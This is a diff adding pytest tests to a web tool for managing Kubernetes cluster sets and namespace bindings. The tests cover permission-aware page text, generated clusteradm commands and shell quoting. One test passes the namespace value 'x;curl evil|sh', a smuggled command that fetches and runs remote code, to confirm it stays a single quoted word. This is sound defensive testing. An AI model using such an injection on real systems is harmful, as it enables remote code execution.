@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 from collections.abc import Callable
 from datetime import timedelta
 from typing import Any
@@ -111,6 +112,28 @@ class TestSight:
         assert rows == {"db": 0, "default": 0, "prod": 1, "web": 1}
         assert "The set has members, but none that you may see" in text(client.get("/sets/db/"))
 
+    @pytest.mark.parametrize("tab", ["", "bindings/", "people/", "definition/"])
+    def test_no_tab_calls_a_set_empty_whose_clusters_one_may_not_see(self, tab: str) -> None:
+        grant(person("li"), rule("get list", SETS, groups=GROUP))
+        page = signed_in("li").get(f"/sets/web/{tab}").content.decode()
+        assert "The set has members, but none that you may see." in page
+        assert "Nobody has put a cluster into it." not in page
+
+    def test_a_namespace_whose_bindings_one_may_not_list_is_not_called_unbound(self) -> None:
+        grant(person("li"), rule("get", "namespaces", names="shop ops"))
+        li = signed_in("li")
+        for name in ("shop", "ops"):
+            page = li.get(f"/namespaces/{name}/").content.decode()
+            assert "choose nothing" not in page
+            assert "Nothing is bound here" not in page
+            assert "0 bindings" not in page
+            assert "You may not see what is bound here" in page
+        assert li.get("/namespaces/").content.decode().count("not visible to you") == 2
+        grant(person("li"), rule("list", "managedclustersetbindings", groups=GROUP), namespace="ops")
+        page = li.get("/namespaces/ops/").content.decode()
+        assert "No set is bound here, so its placements choose nothing." in page
+        assert "Nothing is bound here" in page
+
     def test_who_has_no_right_reads_so(self) -> None:
         assert "You can see none of the hub\N{RIGHT SINGLE QUOTATION MARK}s sets" in text(
             signed_in("mallory").get("/sets/")
@@ -208,6 +231,15 @@ class TestMove:
         assert step.obstacle == "you may not change web-1"
         assert client.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}).status_code == 403
         assert where("web-1") == "web"
+
+    def test_the_command_of_many_names_no_cluster_that_there_is_not(self, admin: Client) -> None:
+        names = [f"more-{number:02}" for number in range(12)]
+        for name in names:
+            make.cluster(name, labels={CLUSTERSET_LABEL: "web"})
+        shown = admin.get(f"{select(admin, *names)}?to=db")
+        first, rest = shown.context["commands"]
+        assert first == f"clusteradm clusterset set db --clusters {','.join(names[:10])}"
+        assert rest == "# and the same for 2 more"
 
     def test_what_was_moved_meanwhile_is_not_moved_again(self, admin: Client) -> None:
         make.label("web-1", {CLUSTERSET_LABEL: "default"})
@@ -372,6 +404,10 @@ class TestBinding:
         refused = admin.post("/namespaces/_bind/", {"set": "web", "namespace": "web-1"})
         assert refused.status_code == 422
         assert "cluster namespace of a registered cluster" in str(refused.context["form"].errors["namespace"])
+
+    def test_a_namespace_of_a_link_is_one_word_of_the_command(self, admin: Client) -> None:
+        page = admin.get("/namespaces/_bind/", {"set": "web", "namespace": "x;curl evil|sh"})
+        assert shlex.split(page.context["command"])[-2:] == ["--namespace", "x;curl evil|sh"]
 
     def test_a_namespace_where_one_may_do_nothing_is_refused(self) -> None:
         client = self.binder("web")
